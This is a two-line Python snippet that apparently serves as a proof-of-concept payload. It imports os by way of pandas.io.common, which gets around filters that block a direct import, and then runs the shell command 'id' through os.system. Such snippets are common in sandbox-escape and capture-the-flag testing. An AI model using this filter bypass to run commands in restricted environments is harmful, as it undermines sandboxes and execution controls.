from pandas.io.common import os
os.system("id")
